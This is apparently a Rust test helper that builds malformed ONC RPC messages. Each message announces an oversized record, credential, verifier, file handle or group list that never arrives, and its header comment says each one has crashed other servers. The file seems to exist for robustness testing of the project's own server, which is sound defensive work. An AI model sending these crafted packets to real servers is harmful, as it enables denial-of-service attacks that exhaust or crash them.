//! Messages of which one each has killed other servers.

pub(crate) struct Attack {
    pub(crate) what: &'static str,
    /// As it goes over a stream, record mark included.
    pub(crate) bytes: Vec<u8>,
}

impl Attack {
    /// As it goes into a datagram. Empty for what is only a record mark.
    pub(crate) fn message(&self) -> &[u8] {
        &self.bytes[4..]
    }
}

/// Lengths that are announced and never come, in a call of this procedure.
pub(crate) fn one_packet_attacks(program: u32, version: u32, procedure: u32) -> Vec<Attack> {
    let words = |words: &[u32]| words.iter().flat_map(|word| word.to_be_bytes()).collect::<Vec<u8>>();
    let header = [1, 0, 2, program, version, procedure];
    let record = |body: Vec<u8>| [&(u32::try_from(body.len()).unwrap() | 1 << 31).to_be_bytes()[..], &body].concat();
    let call = |rest: &[u32]| record(words(&[&header[..], rest].concat()));
    [
        ("record of 2 GiB", words(&[0xffff_ffff])),
        ("record of 2 GiB in fragments", words(&[0x7fff_ffff])),
        ("credential of 3 GiB", call(&[1, 0xc000_0000])),
        ("verifier of 3 GiB", call(&[0, 0, 0, 0xc000_0000])),
        ("handle or path of 3 GiB", call(&[0, 0, 0, 0, 0xc000_0000])),
        ("805 million groups", call(&[1, 24, 0, 0, 0, 0, 805_306_368, 0, 0, 0])),
        ("all groups there can be", call(&[1, 24, 0, 0, 0, 0, u32::MAX, 0, 0, 0])),
    ]
    .map(|(what, bytes)| Attack { what, bytes })
    .into()
}
